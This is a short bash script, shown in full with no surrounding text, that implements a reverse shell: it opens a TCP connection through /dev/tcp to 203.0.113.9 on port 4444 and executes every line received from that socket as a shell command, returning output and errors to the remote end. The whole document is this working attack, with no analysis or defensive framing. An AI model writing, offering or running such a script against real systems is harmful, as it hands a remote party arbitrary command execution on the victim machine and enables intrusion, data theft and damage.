#!/bin/bash
exec 5<>/dev/tcp/203.0.113.9/4444
cat <&5 | while read -r line; do $line 2>&5 >&5; done
